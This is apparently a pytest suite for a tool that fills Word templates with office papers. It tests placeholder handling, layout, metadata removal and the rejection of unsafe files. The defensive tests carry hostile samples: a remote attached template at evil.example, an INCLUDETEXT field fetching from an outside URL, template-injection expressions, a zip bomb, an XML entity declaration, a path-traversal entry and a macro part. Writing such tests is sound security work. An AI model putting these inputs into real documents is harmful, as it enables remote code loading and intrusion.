"""Papers in a template of the office's own: filled in however Word split the names, safe, one title, marked."""

import contextlib
import dataclasses
from io import BytesIO
from itertools import pairwise
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pytest
from docx.enum.section import WD_SECTION
from docx.oxml.ns import qn
from docx.shared import Inches, Mm
from hypothesis import given, settings
from hypothesis import strategies as st

from lif_desktop.papers import blocks, word
from lif_desktop.papers.office_template import TemplateTrouble
from lif_desktop.papers.office_template_names import KNOWN, tags_in
from lif_desktop.papers.template import make_template
from lif_desktop.papers.template_check import check
from tests.papers.made_up import PROPERTIES, everything, table
from tests.papers.paper_checks import problems
from tests.papers.templates_made_up import bytes_of, copy, paragraph, parts_of, png, run, with_body, with_parts

SHORT = blocks.Paper(
    "The title",
    "What it is for",
    "OFFICIAL-SENSITIVE",
    "Version 2",
    (blocks.Heading("First"), blocks.Paragraph("Words of the paper"), table()),
    properties=PROPERTIES,
    names=(("reference", "RR-2026-005"), ("agency", "Police")),
)


def made(template: bytes, paper: blocks.Paper = SHORT) -> docx.document.Document:
    """The paper in that template, with every rule of papers kept."""
    data = word.render(paper, template)
    assert problems(data) == []
    return docx.Document(BytesIO(data))


def texts(document: docx.document.Document) -> list[str]:
    return [p.text for p in document.paragraphs]


def test_the_starting_copy_gives_the_wording_around_the_paper_and_no_explanations() -> None:
    document = made(bytes_of(copy()))
    assert texts(document)[:3] == [
        "The title",
        "What it is for",
        "Prepared by the business office of Anytown Safeguarding Partnerships on 23 November 2026.",
    ]
    assert texts(document)[-1] == "Questions about this paper go to the business office."
    assert texts(document).index("Words of the paper") == 4
    assert "How to use" not in everything(bytes_of(document))
    assert document.sections[0].footer.paragraphs[0].text == "Version 2\tPage 1 of 1"


@pytest.mark.parametrize(
    "pieces",
    [
        ("{{ agency }}",),
        ("{", "{ age", "ncy }", "}"),
        ("{{\u00a0agency\u00a0}}",),
        ("{{ “agency” }}",),
        ("{{agency}}",),
        ("{{ Agency }}",),
        ("{{ ", "AGENCY", "\u200b }}"),
    ],
    ids=repr,
)
def test_a_name_is_found_however_word_split_and_dressed_it(pieces: tuple[str, ...]) -> None:
    looks = ("<w:b/>", "<w:i/>", "", '<w:lang w:val="en-US"/>')
    body = paragraph(run("For "), *(run(piece, looks[at]) for at, piece in enumerate(pieces)), run("."))
    document = made(with_body(body))
    assert texts(document)[-1] == "For Police."
    assert document.paragraphs[-1].runs[1].bold or len(pieces) < 2


def test_marks_of_spelling_bookmarks_smart_tags_and_tracked_changes_are_no_obstacle() -> None:
    body = paragraph(
        '<w:proofErr w:type="spellStart"/>',
        run("{{ "),
        f'<w:smartTag w:element="x">{run("age")}</w:smartTag>',
        f'<w:ins w:id="1" w:author="J Smith">{run("ncy")}</w:ins>',
        '<w:del w:id="2" w:author="J Smith"><w:r><w:delText>old</w:delText></w:r></w:del>',
        '<w:bookmarkStart w:id="3" w:name="x"/>',
        run(" }}"),
    )
    template = with_body(body)
    heard: list[str] = []
    data = word.render(SHORT, template, tell=heard.append)
    assert texts(docx.Document(BytesIO(data)))[-1] == "Police"
    assert heard == ["It holds tracked changes. Papers take them as accepted."]
    assert "Smith" not in everything(data)


def test_names_stand_in_tables_headers_and_text_boxes() -> None:
    document = copy()
    document.sections[0].header.add_paragraph("{{ reference }} for {{ agency }}")
    box = "<w:txbxContent>" + paragraph(run("{{ marking }} {{ date }}")) + "</w:txbxContent>"
    frame = f'<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox>{box}</v:textbox></v:shape>'
    shape = f"<w:r><w:pict>{frame}</w:pict></w:r>"
    cell = f"<w:tr><w:tc>{paragraph(run('{{ subtitle }}'))}</w:tc></w:tr>"
    cell = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid>{cell}</w:tbl>"
    data = word.render(SHORT, with_body(cell + paragraph(shape), bytes_of(document)))
    told = everything(data)
    assert "RR-2026-005 for Police" in told
    assert "OFFICIAL-SENSITIVE 23 November 2026" in told
    assert docx.Document(BytesIO(data)).tables[-1].cell(0, 0).text == "What it is for"


def test_a_name_of_another_paper_leaves_nothing_and_no_empty_paragraph() -> None:
    document = made(with_body(paragraph(run("{{ law }}")) + paragraph(run("Law: {{ law }}"))))
    assert texts(document)[-2:] == ["Questions about this paper go to the business office.", "Law: "]


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ("{{ partnershp }}", "Is {{ partnership }} meant?"),
        ("{{ title", "is not closed"),
        ("{{ title.__class__ }}", "is not a name"),
        ("{{ 7*7 }}", "is not a name"),
        ("{{ title|upper }}", "is not a name"),
        ("{{ range(10) }}", "is not a name"),
        ("{% for a in b %}", "holds code"),
        ("{{ }}", "no name between"),
    ],
)
def test_whatever_is_no_name_is_refused_with_its_place(words: str, said: str) -> None:
    with pytest.raises(TemplateTrouble) as trouble:
        word.render(SHORT, with_body(paragraph(run(words))))
    assert said in str(trouble.value)
    assert "body, paragraph 9" in str(trouble.value)


def test_words_of_records_are_never_looked_through_for_names() -> None:
    paper = dataclasses.replace(SHORT, title="{{ version }}", blocks=(blocks.Paragraph("{{ agency }} {% x %}"),))
    document = docx.Document(BytesIO(word.render(paper, bytes_of(copy()))))
    assert texts(document)[0] == "{{ version }}"
    assert "{{ agency }} {% x %}" in texts(document)


@given(st.text("{} %ab}{", max_size=200))
@settings(max_examples=200)
def test_braces_are_cut_up_in_order_and_without_overlap(text: str) -> None:
    found = tags_in(text)
    assert all(one.end <= two.start for one, two in pairwise(found))
    assert all(tag.fault or tag.name in KNOWN for tag in found)


def test_ten_thousand_nested_braces_are_refused_at_once() -> None:
    with pytest.raises(TemplateTrouble, match="is not closed"):
        word.render(SHORT, with_body(paragraph(run("{{ a " * 10_000 + "}}" * 10_000))))


# One title, headings in order, no empty paragraph


def test_a_title_in_another_style_keeps_it_and_counts_as_the_one_heading() -> None:
    document = copy()
    title = next(p for p in document.paragraphs if p.text == "{{ title }}")
    title.style = "Lead paragraph"
    found = made(bytes_of(document))
    assert (found.paragraphs[0].text, found.paragraphs[0].style.name) == ("The title", "Lead paragraph")
    assert not [p for p in found.paragraphs if p.style.name == "Heading 1"]


def test_other_titles_and_skipped_levels_of_a_template_are_put_in_order() -> None:
    document = copy()
    document.add_heading("About us", 1)
    document.add_paragraph("Deeper", style="Heading 4")
    levels = [p.style.name for p in made(bytes_of(document)).paragraphs if p.style.name.startswith("Heading")]
    assert levels == ["Heading 1", "Heading 2", "Heading 2", "Heading 3"]


def test_a_title_in_the_header_only_is_printed_above_the_paper_too() -> None:
    document = docx.Document(BytesIO(make_template()))
    document.sections[0].header.add_paragraph("{{ title }}")
    assert texts(made(bytes_of(document)))[0] == "The title"


def test_empty_paragraphs_become_space() -> None:
    document = copy()
    for _ in range(2):
        document.add_paragraph()
    document.add_paragraph("After two empty ones")
    last = made(bytes_of(document)).paragraphs[-1]
    assert last.text == "After two empty ones"
    assert last.paragraph_format.space_before.pt == 30


def order_of(document: docx.document.Document) -> list[str]:
    """The body in order: the words of each paragraph, "table" for each table."""
    words = ["".join(t.text or "" for t in one.iter(qn("w:t"))) for one in document.element.body]
    return [
        "table" if one.tag.endswith("tbl") else said for one, said in zip(document.element.body, words, strict=True)
    ]


@pytest.mark.parametrize("place", ["start", "table", "none"])
def test_the_paper_goes_where_it_is_named_below_a_table_or_to_the_end(place: str) -> None:
    document = docx.Document(BytesIO(make_template()))
    if place == "start":
        document.add_paragraph("{{ content }}")
    cell = document.add_table(1, 1).cell(0, 0).paragraphs[0]
    cell.text = "{{ content }}" if place == "table" else "A cell"
    document.add_paragraph("Last words")
    order = order_of(docx.Document(BytesIO(word.render(SHORT, bytes_of(document)))))
    at, last, first_table = (order.index(one) for one in ("Words of the paper", "Last words", "table"))
    assert (at < last) == (place != "none")
    assert (at < first_table) == (place == "start")


# Pages


def test_first_and_even_pages_and_every_section_are_marked() -> None:
    document = copy()
    document.add_section(WD_SECTION.NEW_PAGE).different_first_page_header_footer = True
    document.settings.odd_and_even_pages_header_footer = True
    last = document.sections[-1]
    last.header.is_linked_to_previous = False
    last.header.paragraphs[0].text = "Section of its own"
    found = made(bytes_of(document))
    assert [p.text for p in found.sections[1].header.paragraphs] == ["Section of its own", "OFFICIAL-SENSITIVE"]
    assert found.sections[1].first_page_footer.paragraphs[0].text == "Version 2\tPage 1 of 1"


def test_an_american_page_and_language_are_made_british() -> None:
    found = made(bytes_of(docx.Document()))
    assert (round(found.sections[0].page_width.mm), round(found.sections[0].page_height.mm)) == (210, 297)


def test_pages_on_their_side_keep_the_right_edge_of_the_footer() -> None:
    found = made(bytes_of(copy()), dataclasses.replace(SHORT, landscape=True))
    section = found.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm), section.orientation) == (297, 210, 1)
    stops = [
        (stop.alignment, round(stop.position.mm)) for stop in section.footer.paragraphs[0].paragraph_format.tab_stops
    ]
    assert stops[-1] == (2, round((section.page_width - section.left_margin - section.right_margin) / 36000))
    grid = found.tables[0]._tbl.tblGrid
    assert abs(sum(int(c.get(qn("w:w"))) for c in grid) * 635 - (section.page_width - 2 * section.left_margin)) < Mm(1)


def test_wide_margins_move_the_page_number_to_their_edge() -> None:
    own = docx.Document(BytesIO(make_template()))
    own.sections[0].left_margin = Inches(2)
    found = made(bytes_of(own))
    stops = [round(s.position.mm) for s in found.sections[0].footer.paragraphs[0].paragraph_format.tab_stops]
    assert stops[-1] == 0 or stops[0] == round((found.sections[0].page_width - Inches(2) - Mm(20)) / 36000)


# What must not leave, and what is no template


def test_what_tells_of_people_and_links_elsewhere_are_taken_out() -> None:
    def dirty(parts: dict[str, bytes]) -> None:
        parts["docProps/custom.xml"] = b"<Properties><property>J Smith</property></Properties>"
        parts["docProps/app.xml"] = b"<Properties><Company>Old Council</Company><Manager>J Smith</Manager></Properties>"
        parts["word/comments.xml"] = b'<w:comments xmlns:w="x"/>'
        parts["word/embeddings/oleObject1.bin"] = b"MZ"
        parts["word/media/image9.png"] = b"no picture at all"
        parts["word/_rels/settings.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        )
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:rsids><w:rsid w:val="00AA"/></w:rsids><w:zoom'
        )
        parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:p>", b'<w:p w:rsidR="00AA11BB">')

    heard: list[str] = []
    data = word.render(SHORT, with_parts(bytes_of(copy()), dirty), tell=heard.append)
    assert problems(data) == []
    whole = b"".join(parts_of(data).values())
    assert not [word_ for word_ in (b"Smith", b"Old Council", b"evil", b"00AA11BB") if word_ in whole]
    assert "It is linked to another template. Papers are made without that link." in heard
    assert "It holds comments. Papers leave them out." in heard


def test_fields_that_tell_of_the_computer_become_plain_words() -> None:
    fields = (
        '<w:fldSimple w:instr=" FILENAME \\p ">' + run("C:\\Users\\jsmith\\t.docx") + "</w:fldSimple>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "http://evil" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + run("shown")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    found = made(with_body(paragraph(fields)))
    assert found.paragraphs[-1].text.endswith("shown")


def test_a_logo_stays_and_a_broken_one_stops_nothing(paper: blocks.Paper) -> None:
    document = copy()
    picture = document.sections[0].header.paragraphs[0].add_run()
    picture.add_picture(BytesIO(png()))
    next(picture._r.iter(qn("wp:docPr"))).set("descr", "The crest of Anytown")
    whole = bytes_of(document)
    assert problems(word.render(paper, whole)) == []
    name = next(one for one in parts_of(whole) if "media/" in one)
    heard: list[str] = []
    word.render(paper, with_parts(whole, lambda parts: parts.update({name: b"none"})), tell=heard.append)
    assert heard == [f"The file {name.rpartition('/')[2]} in it is no picture. Put the logo in again."]


def zipped(parts: dict[str, bytes]) -> bytes:
    whole = BytesIO()
    with ZipFile(whole, "w", ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return whole.getvalue()


COPY = bytes_of(copy())


def strict(parts: dict[str, bytes]) -> dict[str, bytes]:
    """The body as Word writes it in the strict form of its format."""
    main = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return {
        "word/document.xml": parts["word/document.xml"].replace(
            main, b"http://purl.oclc.org/ooxml/wordprocessingml/main"
        )
    }


MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"
REFUSED = {
    "PDF": (b"%PDF-1.7", "it is a PDF"),
    "RTF": (b"{\\rtf1", "it is a Rich Text document"),
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "older Word"),
    "password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "has a password"),
    "LibreOffice": (zipped({"mimetype": b"x", "content.xml": b"<a/>"}), "OpenDocument"),
    "macros": (with_parts(COPY, lambda parts: parts.update({"word/vbaProject.bin": b"x"})), "holds macros"),
    "macro type": (
        with_parts(COPY, lambda p: p.update({"[Content_Types].xml": b"<a>" + MACROS + b"</a>"})), "holds macros"),
    "bomb": (zipped({**parts_of(COPY), "word/media/a.png": bytes(30_000_000)}), "times its size"),
    "entities": (
        with_parts(COPY, lambda p: p.update({"word/styles.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'})), "DOCTYPE"),
    "climbs": (with_parts(COPY, lambda p: p.update({"../../evil": b"x"})), "outside their folder"),
    "broken XML": (with_parts(COPY, lambda p: p.update({"word/document.xml": b"<w:document"})), "damaged"),
    "strict": (with_parts(COPY, lambda p: p.update(strict(p))), "Strict Open XML"),
    "footer of another kind": (with_parts(COPY, lambda p: p.update({"word/footer.xml": b"<ftr/>"})), "damaged"),
    "cut off": (COPY[: len(COPY) // 2], "damaged"),
    "many elements": (
        with_parts(COPY, lambda p: p.update({"word/document.xml": b"<a>" + b"<b/>" * 500_000 + b"</a>"})),
        "more than a letterhead"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_template_or_not_safe_is_refused_with_a_sentence(name: str, tmp_path: Path) -> None:
    data, said = REFUSED[name]
    (tmp_path / "own.docx").write_bytes(data)
    with pytest.raises(TemplateTrouble, match=said) as trouble:
        word.render(SHORT, tmp_path / "own.docx")
    assert "“own.docx”" in str(trouble.value)


def test_a_word_template_file_is_taken_as_a_document() -> None:
    def as_dotx(parts: dict[str, bytes]) -> None:
        types = parts["[Content_Types].xml"]
        parts["[Content_Types].xml"] = types.replace(b".document.main+xml", b".template.main+xml")

    assert texts(made(with_parts(COPY, as_dotx)))[0] == "The title"


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_a_damaged_template_gives_a_paper_or_a_sentence(data: st.DataObject) -> None:
    parts = parts_of(COPY)
    name = data.draw(st.sampled_from(sorted(parts)))
    held = bytearray(parts[name])
    at = data.draw(st.integers(0, len(held) - 1))
    held[at : at + data.draw(st.integers(0, 40))] = data.draw(st.binary(max_size=12))
    damaged = zipped({**parts, name: bytes(held)})
    told = any(one.stops for one in check(damaged))
    with contextlib.suppress(TemplateTrouble):
        assert docx.Document(BytesIO(word.render(SHORT, damaged)))
        assert not told


# Text


@settings(max_examples=60, deadline=None)
@given(st.text(st.characters(), max_size=120))
def test_any_words_come_back_from_the_document(text: str) -> None:
    from lif_desktop.papers.words import clean

    paper = dataclasses.replace(SHORT, blocks=(blocks.Paragraph(text), blocks.Paragraph("end")))
    document = docx.Document(BytesIO(word.render(paper)))
    assert document.paragraphs[2].text == clean(text)


def test_right_to_left_names_are_said_to_be_so() -> None:
    paper = dataclasses.replace(
        SHORT,
        blocks=(
            blocks.Paragraph("Adult شجرة كبيرة, seen"),
            blocks.Paragraph("אדם גדול Ann"),
            blocks.Paragraph("אדם lives alone"),
        ),
    )
    first, second, third = docx.Document(BytesIO(word.render(paper))).paragraphs[2:5]
    right = [(r.text, r.font.rtl) for r in first.runs]
    assert right == [("Adult ", None), ("شجرة كبيرة", True), (", seen", None)]
    assert first._p.pPr.find(qn("w:bidi")) is None
    assert second._p.pPr.find(qn("w:bidi")) is not None
    assert third._p.pPr.find(qn("w:bidi")) is None
